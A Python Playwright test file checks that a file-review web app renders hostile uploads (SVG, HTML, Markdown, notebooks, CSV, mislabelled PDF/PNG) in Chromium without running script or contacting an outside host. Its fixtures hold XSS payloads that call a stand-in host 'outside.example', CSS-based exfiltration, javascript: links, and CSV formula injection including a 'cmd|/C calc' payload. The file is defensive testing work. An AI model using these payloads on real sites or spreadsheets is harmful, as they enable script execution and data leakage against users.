"""Hostile files of every sort in real Chromium: no script runs, no request leaves, nobody is fooled."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from itertools import product

import pytest
from playwright.sync_api import Browser, Dialog, Page, Request

from demo.browsing import PATIENCE
from output_checking.use_cases.check import check_now
from tests.integration.output_checking.conftest import make_app, make_house
from tests.integration.output_checking.furnished import document, every_kind
from tests.integration.output_checking.house import WHO, html_output, notebook
from tests.serving import served

OUTSIDE = "https://outside.example"
RUN = "window.ran=1;fetch('https://outside.example/ran')"
SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script>"
    f"<image href='{OUTSIDE}/i'/></svg>"
)
HTML = (
    f'<!doctype html><html><body onload="{RUN}"><script>{RUN}</script><img src=x onerror="{RUN}">'
    f"<img src='{OUTSIDE}/pixel'><link rel=stylesheet href='{OUTSIDE}/css'>"
    f"<iframe src='{OUTSIDE}'></iframe><style>@import '{OUTSIDE}/i.css'; body{{display:none}}"
    f"td[data-x^=a]{{background:url({OUTSIDE}/a)}}</style><base href='{OUTSIDE}'>"
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>"
    f"<form action='{OUTSIDE}'><button autofocus onfocus=\"{RUN}\">x</button></form>"
    "<a href='javascript:window.ran=2'>click me</a>"
    "<a href='data:text/html,<script>1</script>'>click me</a>"
    f"<object data='{OUTSIDE}/o'></object><embed src='{OUTSIDE}/e'>"
    f"<video src='{OUTSIDE}/v' autoplay></video></body></html>"
)
MARKDOWN = (
    f"# Title\n\n![pixel]({OUTSIDE}/md.png) [click me](javascript:window.ran=3) "
    f'<img src=x onerror="{RUN}">\n\n{HTML}'
)


def hostile_notebook() -> bytes:
    cells = json.loads(notebook(html_output(HTML), html_output(SVG), source="print(1)"))
    cells["cells"][0]["outputs"].append(
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {
                "application/javascript": RUN,
                "image/svg+xml": SVG,
                "text/markdown": MARKDOWN,
                "text/latex": "$\\href{javascript:window.ran=4}{x}$",
                "image/png": base64.b64encode(SVG.encode()).decode(),
                "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
            },
        }
    )
    cells["cells"].append({"cell_type": "markdown", "id": "m", "metadata": {}, "source": MARKDOWN})
    cells["cells"].append(
        {"cell_type": "raw", "id": "r", "metadata": {"format": "text/html"}, "source": HTML}
    )
    return json.dumps(cells).encode()


FILES: dict[str, bytes | str] = {
    "drawing.svg": SVG,
    "page.html": HTML,
    "notes.md": MARKDOWN,
    "study.ipynb": hostile_notebook(),
    "formulas.csv": "ward,n\n=HYPERLINK('https://outside.example'),412\n@SUM(1),650\n+cmd|'/C calc'!A0,3\n",
    "table.csv": f'"{SVG.replace(chr(34), chr(34) * 2)}",n\n"{HTML.replace(chr(34), chr(34) * 2)}",412\n',
    "huge.csv": ",".join(f"c{n}" for n in range(900))
    + "\n"
    + "\n".join(",".join("9" * 900) for _ in range(400)),
    "false.png": SVG,
    "false.pdf": "%PDF-1.4\n" + HTML,
    "words.docx": document(),
    "code.py": f"x = '''{HTML}'''",
    "turned.csv": "ward,n\n\u202e214\u202c yrogetaC,412\n",
    "drawn.ipynb": every_kind()["study.ipynb"],
}


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a request of claire's that holds every hostile file."""
    folder = tmp_path_factory.mktemp("hostile")
    house = make_house(folder, f"sqlite:///{folder}/airlock.sqlite")
    request = house.draft("Hostile files", MARKDOWN[:1000])
    for name, content in FILES.items():
        house.add(request, name, content)
    check_now(house.airlock, actor="claire", request_id=request.id)
    with served(make_app(house)) as address:
        yield f"{address}/requests/{request.id}"


def test_nothing_runs_and_nothing_leaves_wherever_a_hostile_file_is_shown(
    place: str, chrome: Browser
) -> None:
    page, asked = watched(chrome)
    for name, view in product(FILES, ("", "text", "cells")):
        if view == "cells" and not name.endswith(".ipynb"):
            continue
        page.goto(f"{place}/files/{name}?view={view}&language=en")
        for frame in page.frames:
            assert frame.evaluate("window.ran") is None, (name, view, frame.url)
            for link in frame.get_by_text("click me").all():
                if link.is_visible():
                    link.click()
        page.wait_for_timeout(200)  # a refresh, a fetch or a drawing that follows
        assert page.url.startswith(f"{place}/files/"), (name, view)
        assert page.evaluate("window.ran") is None, (name, view)
    own = (place.split("/requests/")[0], "data:image/png")
    assert [one for one in asked if not one.startswith(own)] == []
    page.context.close()


def test_a_drawn_notebook_has_no_origin_and_no_script(place: str, chrome: Browser) -> None:
    page, _ = watched(chrome)
    page.goto(f"{place}/files/drawn.ipynb")
    (frame,) = [one for one in page.frames if one is not page.main_frame]
    assert frame.evaluate("window.origin") == "null"
    assert frame.locator("td").inner_text() == "in the notebook"
    assert frame.evaluate("getComputedStyle(document.body).padding") == "12px"  # its own style holds
    inside = frame.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
        " document.body.append(s); return window.ran }"
    )
    assert inside is None
    alone = page.goto(f"{place}/files/drawn.ipynb/rendered")
    assert alone is not None and "sandbox" in alone.headers["content-security-policy"]
    assert page.evaluate("window.origin") == "null"
    page.context.close()


def test_signs_that_turn_the_direction_of_reading_are_spelled_out(place: str, chrome: Browser) -> None:
    page, _ = watched(chrome)
    page.goto(f"{place}/files/turned.csv")
    assert "⟨U+202E⟩214⟨U+202C⟩" in page.locator("tbody td").first.inner_text()
    page.context.close()


def watched(chrome: Browser) -> tuple[Page, list[str]]:
    """A page of claire's, and every address it asked for."""
    context = chrome.new_context(extra_http_headers={WHO: "claire"})
    context.set_default_timeout(PATIENCE)
    page = context.new_page()
    asked: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    def refuse(dialog: Dialog) -> None:
        asked.append(f"dialog:{dialog.message}")
        dialog.dismiss()

    page.on("request", note)
    page.on("dialog", refuse)
    return page, asked
